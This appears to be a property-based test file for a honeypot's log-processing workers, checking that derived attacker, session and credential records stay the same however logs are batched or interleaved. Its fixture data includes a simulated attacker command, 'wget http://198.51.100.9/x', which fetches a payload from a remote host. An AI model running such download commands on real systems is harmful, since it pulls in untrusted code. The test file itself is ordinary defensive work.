import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { AnyTopic } from '@decnet/contracts/topics'
import { deterministicId, newId } from '@decnet/kernel'
import type { LogRecord, NewLogRecord } from '@decnet/kernel/log'
import { PARTITIONS } from '@decnet/kernel/log'
import type { Emit, Fold } from '@decnet/kernel/worker'
import fc from 'fast-check'
import { afterAll, expect, it } from 'vitest'
import { logTable, type Tx } from '../store/log-table.ts'
import { migrate, openStore, type Store } from '../store/open.ts'
import credentials from './credentials/worker.ts'
import profiler from './profiler/worker.ts'
import reuseCorrelator from './reuse-correlator/worker.ts'
import rhythm from './rhythm/worker.ts'

const FOLDS = [credentials, profiler, reuseCorrelator, rhythm] as unknown as readonly Fold<Tx>[]
const T0 = 1_763_000_000_000
const MINUTE = 60_000
const ALL = Array.from({ length: PARTITIONS }, (_, part) => part)
const folder = mkdtempSync(join(tmpdir(), 'purity-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

const BODIES: Readonly<Record<string, readonly Record<string, string>[]>> = {
  connect: [{}],
  client_hello: [{ client_version: 'SSH-2.0-Go', hassh: 'a'.repeat(32) }, { client_version: 'SSH-2.0-\u0000\ud800' }],
  auth_attempt: ['aa', 'bb', ''].map((secret) => ({
    principal: 'root',
    secret_b64: Buffer.from(secret).toString('base64'),
    outcome: 'failure',
  })),
  command: [{ command: 'wget http://198.51.100.9/x' }, { command: 'id' }, { command: 'USER x', mode: 'protocol' }],
  http_request: [{ user_agent: 'curl/8', headers: '[["Host","x"]]', path: '/' }],
  download_attempt: [{ url: 'http://198.51.100.9/x', tool: 'wget' }],
  file_captured: [{ sha256: 'c'.repeat(64), size: '2000000' }],
  disconnect: [{ bytes_in: '10' }],
  tick: [{}],
  sensor_started: [{}],
  tagged: [{}, {}, {}],
}
/** What a tagger says of what it saw. */
const TAGS = [
  { technique_id: 'T1190', tactic: 'TA0001', confidence: 0.9 },
  { technique_id: 'T1110', tactic: 'TA0006', confidence: 0.5 },
  { technique_id: 'T1059', tactic: null, confidence: 0.7 },
] as const
const tagged = (n: number) => ({
  ...{ attacker_uuid: newId(), identity_uuid: null, session_id: null, tag_uuids: [newId()] },
  ...{ techniques_added: [TAGS[n]?.technique_id ?? 'T1190'], recognised: [TAGS[n] ?? TAGS[0]] },
})

interface Step {
  readonly type: string
  readonly body: number
  readonly who: number
  readonly session: number
  readonly decky: number
  readonly pause: number
}
const step = fc.record<Step>({
  type: fc.constantFrom(...Object.keys(BODIES)),
  body: fc.nat({ max: 2 }),
  who: fc.nat({ max: 2 }),
  session: fc.nat({ max: 2 }),
  decky: fc.nat({ max: 2 }),
  pause: fc.oneof(
    fc.nat({ max: 5_000 }),
    fc.nat({ max: 40 * MINUTE }),
    fc.nat({ max: 300 * MINUTE }),
    fc.integer({ min: -MINUTE, max: 0 }),
  ),
})
const steps = fc.array(step, { minLength: 1, maxLength: 40 })

/** What one sensor wrote, in its order. */
function written(source: string, list: readonly Step[]): NewLogRecord[] {
  let ts = T0
  const seen = new Set<number>()
  return list.flatMap(({ type, body, who, session, decky, pause }) => {
    ts += pause
    // What is recognised follows what it is recognised in.
    if (type === 'tagged' && !seen.has(who)) return []
    const bodies = BODIES[type] ?? [{}]
    const own = type === 'tick' || type === 'sensor_started'
    if (!own) seen.add(who)
    return {
      ...{ id: newId(), topic: type === 'tagged' ? 'ttp.tagged' : 'system.log', ts, source, type, attackerPort: null, msg: null },
      decky: own ? 'sensor' : `decky-${decky}`,
      service: own ? 'sensor' : (['ssh', 'ftp', 'http'][decky] ?? 'ssh'),
      attackerIp: own ? null : `203.0.113.${who}`,
      sessionId: own ? null : `${source}-${who}-${session}`,
      body: type === 'tagged' ? tagged(body) : (bodies[body % bodies.length] ?? {}),
    }
  })
}

/** Hands a log to every fold, cut into batches; answers what was derived, by id. */
async function fold(store: Store, cuts: readonly number[]): Promise<Map<string, unknown>> {
  const log = logTable(store)
  const derived = new Map<string, unknown>()
  for (const worker of FOLDS) {
    const patterns = worker.reads.map(({ pattern }) => pattern)
    for (let after = 0, n = 0; ; n += 1) {
      const { records, scanned } = await log.read(after, 1 + (cuts[n % cuts.length] ?? 0), patterns)
      if (records.length === 0) break
      after = records.at(-1)?.seq ?? scanned
      await log.transaction(async (tx, log) => {
        const made: NewLogRecord[] = []
        const emit: Emit<AnyTopic> = (topic, segments, payload, about) => {
          const { source } = about
          const name = (topic.name as (...segments: readonly string[]) => string)(...segments)
          const id = deterministicId(worker.name, source.id, name, about.key ?? '')
          const body = topic.payload.parse(payload) as LogRecord['body']
          derived.set(id, body)
          const { ts, decky, service, attackerIp, sessionId } = source
          made.push({
            id,
            topic: name,
            ts: about.ts ?? ts,
            source: worker.name,
            type: name,
            decky,
            service,
            attackerIp,
            attackerPort: null,
            sessionId,
            body,
            msg: null,
          })
        }
        await worker.handle(records, { tx, emit, ring: () => undefined, parts: ALL })
        await log.append(made)
      })
    }
  }
  return derived
}

let stores = 0
async function opened(records: readonly NewLogRecord[]): Promise<Store> {
  const store = await openStore(join(folder, `${stores++}.db`))
  await migrate(store)
  await logTable(store).transaction((_tx, log) => log.append(records))
  return store
}
const rows = async ({ db }: Store) => ({
  attackers: await db.selectFrom('attackers').selectAll().orderBy('uuid').execute(),
  features: await db.selectFrom('attacker_features').selectAll().orderBy('attacker_uuid').orderBy('kind').orderBy('value_sha256').execute(),
  sessions: await db.selectFrom('sessions').selectAll().orderBy('id').execute(),
  credentials: await db.selectFrom('credentials').selectAll().orderBy('id').execute(),
  reuse: await db.selectFrom('credential_reuse').selectAll().orderBy('id').execute(),
  // Which number a derived record gets is no fact.
  visits: await db.selectFrom('attacker_visits').select(['attacker_uuid', 'spans', 'fresh']).orderBy('attacker_uuid').execute(),
  observations: await db.selectFrom('observations').selectAll().orderBy('id').execute(),
  targets: await db.selectFrom('credential_targets').selectAll().orderBy('group_id').orderBy('decky').orderBy('service').execute(),
})

it('a log gives the same rows and the same derived records however it is cut into batches, and read again it changes nothing', async () => {
  await fc.assert(
    fc.asyncProperty(steps, steps, fc.array(fc.nat({ max: 9 }), { minLength: 1, maxLength: 5 }), async (a, b, cuts) => {
      const records = [...written('sensor-a', a), ...written('sensor-b', b)]
      await using whole = await opened(records)
      await using cut = await opened(records)
      const derived = await fold(whole, [10_000])
      expect(await fold(cut, cuts)).toEqual(derived)
      const before = await rows(whole)
      expect(await rows(cut)).toEqual(before)
      for (const [id] of await fold(whole, cuts)) expect(derived.has(id)).toBe(true)
      expect(await rows(whole)).toEqual(before)
    }),
    { numRuns: 20 },
  )
}, 60_000)

const sorted = (json: string) => (JSON.parse(json) as unknown[]).map((entry) => JSON.stringify(entry)).sort()
/** What may not depend on whose lines came first; the order of first sights may. */
async function settled(store: Store) {
  const { attackers, features, sessions, credentials, reuse } = await rows(store)
  return {
    attackers: attackers.map(({ last_seq: _seq, services, deckies, profile, ...row }) => {
      const { events, contacts, commands, ...rest } = JSON.parse(profile ?? '{}') as Record<string, { gaps?: unknown } | undefined>
      return { ...row, services: sorted(services), deckies: sorted(deckies), gaps: [events?.gaps, contacts?.gaps, commands?.gaps], rest }
    }),
    features: features.map(({ attacker_uuid, kind, value, last_ts }) => ({ attacker_uuid, kind, value, seen: kind === 'ip' || last_ts })),
    sessions: sessions.map(({ last_seq: _seq, ...row }) => row),
    credentials: credentials.map(({ last_seq: _seq, ...row }) => row),
    reuse: reuse.map(({ last_seq: _seq, updated_at: _at, attacker_uuids, attacker_ips, targets, ...row }) => ({
      ...row,
      lists: [attacker_uuids, attacker_ips, targets].map(sorted),
    })),
  }
}

it('whose lines came first changes nothing, as long as those of each sensor keep their order', async () => {
  await fc.assert(
    fc.asyncProperty(steps, steps, fc.array(fc.boolean(), { minLength: 80, maxLength: 80 }), async (a, b, coins) => {
      const [left, right] = [written('sensor-a', a), written('sensor-b', b)]
      await using apart = await opened([...left, ...right])
      const queues: [NewLogRecord[], NewLogRecord[]] = [[...left], [...right]]
      const mixed = coins.flatMap((coin) => queues[coin ? 1 : 0].shift() ?? [])
      await using woven = await opened([...mixed, ...queues[0], ...queues[1]])
      await fold(apart, [10_000])
      await fold(woven, [10_000])
      expect(await settled(woven)).toEqual(await settled(apart))
    }),
    { numRuns: 20 },
  )
}, 60_000)
